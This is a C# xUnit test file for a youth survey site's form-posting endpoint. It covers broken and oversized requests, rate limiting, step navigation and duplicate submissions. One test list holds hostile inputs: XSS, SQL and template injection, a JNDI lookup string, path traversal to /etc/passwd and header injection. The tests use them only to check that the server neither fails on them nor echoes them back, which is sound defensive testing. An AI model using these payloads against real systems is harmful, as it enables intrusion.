using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.RegularExpressions;
using Microsoft.Extensions.DependencyInjection;
using Survey.Ask;
using Survey.Ask.Pages;
using Survey.Collect;
using Survey.Tests.Ask;
using Survey.Tests.Http;
using Xunit;

namespace Survey.Tests.Collect;

/// <summary>The form as browsers, and others, may send it.</summary>
public sealed class PostAnswersPageTests : IAsyncLifetime
{
    private const string FormType = "application/x-www-form-urlencoded";

    private static readonly string Wave = Shipped.Now.Id;

    private TestProgram _program = null!;
    private HttpClient _client = null!;

    public async Task InitializeAsync()
    {
        _program = await TestProgram.StartAsync();
        _client = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false })
        {
            BaseAddress = _program.Client.BaseAddress,
        };
        while (
            !(await _client.GetAsync(new Uri("/api/survey", UriKind.Relative))).IsSuccessStatusCode
        )
            await Task.Delay(20);
    }

    public async Task DisposeAsync()
    {
        _client.Dispose();
        await _program.DisposeAsync();
    }

    [Theory]
    [InlineData("Content-Length: 100\r\n\r\nwave=", 408)]
    [InlineData("Transfer-Encoding: chunked\r\n\r\nnone\r\n", 400)]
    public async Task A_form_that_does_not_come_whole_is_answered_with_a_page(
        string rest,
        int status
    )
    {
        using var browser = new TcpClient();
        await browser.ConnectAsync(_client.BaseAddress!.Host, _client.BaseAddress.Port);
        await using var stream = browser.GetStream();
        await stream.WriteAsync(
            Encoding.ASCII.GetBytes(
                $"POST /answers HTTP/1.1\r\nHost: localhost\r\nAccept-Language: en\r\nContent-Type: {FormType}\r\n{rest}"
            )
        );
        using var limit = new CancellationTokenSource(TimeSpan.FromMinutes(1));
        using var reader = new StreamReader(stream);
        var answer = await reader.ReadToEndAsync(limit.Token);
        Assert.StartsWith($"HTTP/1.1 {status} ", answer);
        Assert.Contains("Content-Type: text/html", answer);
        Assert.Contains(Words.Base["unreadable-title"]["en"], answer);
    }

    public static TheoryData<string> Naughty =>
        [
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "' OR 1=1 --",
            "{{7*7}} ${7*7} @(7*7) #{7*7}",
            "${jndi:ldap://example.org/x}",
            "../../../../etc/passwd%00",
            "x\r\nSet-Cookie: naughty=1",
            "\0\u0001\u001b[31m",
            "\u202e\u2066naughty\ufeff",
            "Ω≈ç√∫˜µ 田中さん 👩‍👩‍👧 𝕿𝖍𝖊",
            "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
            "\ud800 half a pair",
            "null",
            "undefined",
            "NaN",
            "-1",
            "1e309",
            "9223372036854775808",
            "CON",
            "[object Object]",
            "__proto__",
            new('9', 5000),
        ];

    [Theory]
    [MemberData(nameof(Naughty))]
    public async Task Naughty_text_anywhere_is_never_a_failure_and_never_said_back(string text)
    {
        string[] fields =
        [
            "id",
            "wave",
            "instrument",
            "language",
            "step",
            "go",
            "change",
            "sex",
            "home_rules",
            text,
        ];
        foreach (var field in fields)
        {
            var form = new Dictionary<string, string>
            {
                ["wave"] = Wave,
                ["instrument"] = Shipped.Instrument.Name,
                ["language"] = "en",
                ["age"] = "13-14",
                ["go"] = "send",
                [field] = text,
            };
            using var content = new FormUrlEncodedContent(form);
            using var reply = await _client.PostAsync(
                new Uri("/answers", UriKind.Relative),
                content
            );
            Assert.InRange((int)reply.StatusCode, 200, 499);
            var body = WebUtility.HtmlDecode(await reply.Content.ReadAsStringAsync());
            if (text.Length > 4)
                Assert.DoesNotContain(text, body, StringComparison.Ordinal);
            Assert.False(reply.Headers.Contains("Set-Cookie"));
        }
        Assert.DoesNotContain("Error", _program.Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("", FormType, HttpStatusCode.NotFound)]
    [InlineData("%", FormType, HttpStatusCode.NotFound)]
    [InlineData("&&&===&=&%zz=%ff%fe&sex", FormType, HttpStatusCode.NotFound)]
    [InlineData("sex=girl", "text/plain", HttpStatusCode.UnsupportedMediaType)]
    [InlineData("{}", "application/json", HttpStatusCode.UnsupportedMediaType)]
    [InlineData(
        "id=00000000-0000-0000-0000-000000000000&sex=girl",
        FormType,
        HttpStatusCode.BadRequest
    )]
    [InlineData("--x--", "multipart/form-data; boundary=x", HttpStatusCode.UnsupportedMediaType)]
    public async Task Broken_forms_get_a_page(string body, string type, HttpStatusCode status)
    {
        using var content = new ByteArrayContent(Encoding.Latin1.GetBytes(body));
        content.Headers.TryAddWithoutValidation("Content-Type", type);
        await RepliesAsync(content, status);
    }

    [Fact]
    public async Task Another_language_keeps_the_answers_and_stores_nothing()
    {
        var id = Guid.NewGuid().ToString();
        using var content = new FormUrlEncodedContent(
            new Dictionary<string, string>
            {
                ["id"] = id,
                ["wave"] = Wave,
                ["instrument"] = Shipped.Instrument.Name,
                ["language"] = "pt",
                ["age"] = "13-14",
                ["step"] = "review",
                ["to"] = "en",
            }
        );
        using var reply = await _client.PostAsync(new Uri("/answers", UriKind.Relative), content);
        Assert.Equal(HttpStatusCode.OK, reply.StatusCode);
        var page = await reply.Content.ReadAsStringAsync();
        Assert.Contains("<html lang=\"en-GB\">", page, StringComparison.Ordinal);
        Assert.Contains("name=\"age\" value=\"13-14\"", page, StringComparison.Ordinal);
        Assert.Contains(id, page, StringComparison.Ordinal);
        Assert.DoesNotContain("class=\"faults\"", page, StringComparison.Ordinal);
        var responses = _program.Services.GetRequiredService<Responses>();
        Assert.False(await responses.IsKeptAsync(Wave, Guid.Parse(id), default));
    }

    [Fact]
    public async Task Too_much_is_refused()
    {
        using var large = Form($"sex={new string('x', AnswerForm.Limit)}");
        await RepliesAsync(large, HttpStatusCode.RequestEntityTooLarge);
        using var many = Form(string.Concat(Enumerable.Range(0, 2000).Select(n => $"a{n}=&")));
        await RepliesAsync(many, HttpStatusCode.BadRequest);
    }

    [Theory]
    [InlineData("2019-Q1", "youth-online/2", HttpStatusCode.NotFound)]
    [InlineData(null, "youth-online/0", HttpStatusCode.Conflict)]
    public async Task Another_wave_or_instrument_is_named(
        string? wave,
        string instrument,
        HttpStatusCode status
    )
    {
        using var form = Form($"wave={wave ?? Wave}&instrument={instrument}&sex=girl&go=send");
        await RepliesAsync(form, status);
    }

    [Fact]
    public async Task The_same_form_twice_is_stored_once_and_goes_on_to_the_thanks()
    {
        var id = Guid.NewGuid();
        for (var time = 0; time < 2; time++)
        {
            using var form = Form(
                $"id={id}&wave={Wave}&instrument={Shipped.Instrument.Name}&language=en&sex=girl&online_contact_met=alone&go=send"
            );
            using var reply = await _client.PostAsync(new Uri("/answers", UriKind.Relative), form);
            Assert.Equal(HttpStatusCode.SeeOther, reply.StatusCode);
            Assert.Equal("/en/thanks", $"{reply.Headers.Location}");
        }
        Assert.Single(await StoredAsync());
    }

    [Fact]
    public async Task Errors_are_marked_and_the_answers_stay()
    {
        using var form = Form(
            $"wave={Wave}&instrument={Shipped.Instrument.Name}&language=en&sex=girl&sex=boy&region=norte"
                + "&learned_where=nowhere&learned_where=school&go=send"
        );
        var page = await RepliesAsync(form, HttpStatusCode.UnprocessableEntity);
        Assert.Contains("href=\"#q-sex\"", page, StringComparison.Ordinal);
        Assert.Contains("value=\"norte\" id=\"q-region\" checked", page, StringComparison.Ordinal);
        Assert.Empty(await StoredAsync());
    }

    [Fact]
    public async Task A_form_that_comes_too_soon_after_others_can_be_sent_again()
    {
        await using var busy = await TestProgram.StartAsync(
            new Dictionary<string, string?> { ["Survey:SubmissionsPerMinute"] = "1" }
        );
        var address = new Uri("/answers", UriKind.Relative);
        using var first = Form(
            $"wave={Wave}&instrument={Shipped.Instrument.Name}&sex=girl&go=send"
        );
        using var none = await busy.Client.PostAsync(address, first);
        using var second = Form(
            $"wave={Wave}&instrument={Shipped.Instrument.Name}&language=en&sex=girl&go=send"
        );
        using var reply = await busy.Client.PostAsync(address, second);
        Assert.Equal(HttpStatusCode.TooManyRequests, reply.StatusCode);
        var seconds = reply.Headers.RetryAfter!.Delta!.Value.TotalSeconds;
        var page = await reply.Content.ReadAsStringAsync();
        Assert.Contains("Not saved yet", page, StringComparison.Ordinal);
        Assert.Contains($"wait {seconds} seconds and send", page, StringComparison.Ordinal);
        Assert.Contains("name=\"sex\" value=\"girl\"", page, StringComparison.Ordinal);

        // A change of language is a page for one reader as well: past its share it is not written.
        using var third = Form($"wave={Wave}&instrument={Shipped.Instrument.Name}&to=en&step=2");
        using var dear = await busy.Client.PostAsync(address, third);
        Assert.Equal(HttpStatusCode.TooManyRequests, dear.StatusCode);
        Assert.NotNull(dear.Headers.RetryAfter);
        Assert.Contains(
            "<h1 tabindex=\"-1\">Espera um bocadinho</h1>",
            await dear.Content.ReadAsStringAsync(),
            StringComparison.Ordinal
        );
    }

    [Fact]
    public async Task An_answer_that_cannot_stand_is_told_at_its_step()
    {
        var item = Shipped.Instrument.Items.Last(one =>
            one.Options.Any(option => option.Exclusive)
        );
        var both = item
            .Options.Where(option => option.Exclusive)
            .Concat(item.Options)
            .Take(2)
            .Select(option => $"&{item.Id}={option.Id}");
        var steps = FormSteps.Of(Shipped.Instrument);
        var step = steps.StepOf(Shipped.Instrument.PlaceOf(item.Id));
        using var form = Form(
            $"wave={Wave}&instrument={Shipped.Instrument.Name}&language=en&step={step}&go=next{string.Concat(both)}"
        );
        var page = await RepliesAsync(form, HttpStatusCode.UnprocessableEntity);
        Assert.Contains($"href=\"#q-{item.Id}\"", page, StringComparison.Ordinal);
        Assert.Contains("cannot stand beside", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Steps_ask_what_the_answers_lead_to_and_nothing_is_kept_on_the_way()
    {
        var older = Shipped
            .Instrument.Items.Where(
                (item, place) =>
                    item.AskIf?.Item == "age"
                    || Shipped.Instrument.SectionOf(place).AskIf?.Item == "age"
            )
            .Select(item => item.Id)
            .ToArray();
        Assert.NotEmpty(older);
        var step = "";
        var shown = new List<string>();
        for (var tries = 0; tries < 100 && step != AnswerForm.Review; tries++)
        {
            using var form = Form(
                $"wave={Wave}&instrument={Shipped.Instrument.Name}&age=10-12&step={step}&go=next"
            );
            var page = await RepliesAsync(form, HttpStatusCode.OK);
            Assert.DoesNotContain(
                older,
                id => page.Contains($"\"{id}\"", StringComparison.Ordinal)
            );
            Assert.Contains("name=\"age\" value=\"10-12\"", page, StringComparison.Ordinal);
            var next = Field(page, "step");
            Assert.NotEqual(step, next);
            step = next;
            shown.Add(next);
        }
        Assert.Equal(shown.Count, shown.Distinct().Count());
        Assert.Equal(AnswerForm.Review, shown[^1]);
        Assert.Empty(await StoredAsync());
    }

    [Fact]
    public async Task After_a_change_only_what_it_leads_to_is_asked_anew()
    {
        var instrument = Shipped.Instrument;
        var begin = $"wave={Wave}&instrument={instrument.Name}";
        using var review = Form($"{begin}&age=10-12&step=review&change=age");
        var page = await RepliesAsync(review, HttpStatusCode.OK);
        var (step, known) = (Field(page, "step"), Field(page, "known"));
        using var same = Form($"{begin}&age=10-12&step={step}&known={known}&go=next");
        Assert.Equal(AnswerForm.Review, Field(await RepliesAsync(same, HttpStatusCode.OK), "step"));
        using var older = Form($"{begin}&age=13-14&step={step}&known={known}&go=next");
        var asked = await RepliesAsync(older, HttpStatusCode.OK);
        Assert.NotEqual(AnswerForm.Review, Field(asked, "step"));
        Assert.DoesNotContain("id=\"f-region\"", asked, StringComparison.Ordinal);
    }

    private static string Field(string page, string name) =>
        Regex.Match(page, $"name=\"{name}\" value=\"([^\"]*)\"").Groups[1].Value;

    [Fact]
    public async Task A_form_without_any_answer_is_thanked_for_and_not_kept()
    {
        using var form = Form(
            $"wave={Wave}&instrument={Shipped.Instrument.Name}&language=en&step=review&go=send"
        );
        var page = await RepliesAsync(form, HttpStatusCode.OK);
        Assert.Contains("Thank you all the same!", page, StringComparison.Ordinal);
        Assert.Empty(await StoredAsync());
    }

    private static ByteArrayContent Form(string body)
    {
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(body));
        content.Headers.TryAddWithoutValidation("Content-Type", FormType);
        return content;
    }

    private async Task<string> RepliesAsync(HttpContent content, HttpStatusCode status)
    {
        using var reply = await _client.PostAsync(new Uri("/answers", UriKind.Relative), content);
        Assert.Equal(status, reply.StatusCode);
        Assert.Equal("text/html", reply.Content.Headers.ContentType?.MediaType);
        Assert.Equal("no-store", $"{reply.Headers.CacheControl}");
        return await reply.Content.ReadAsStringAsync();
    }

    private async Task<List<string>> StoredAsync()
    {
        var responses = (Responses)_program.Services.GetService(typeof(Responses))!;
        var stored = new List<string>();
        for (var shard = 0; shard < Responses.Shards; shard++)
            await foreach (var one in responses.ReadAsync(Wave, shard, CancellationToken.None))
                stored.Add(one.Text);
        return stored;
    }
}
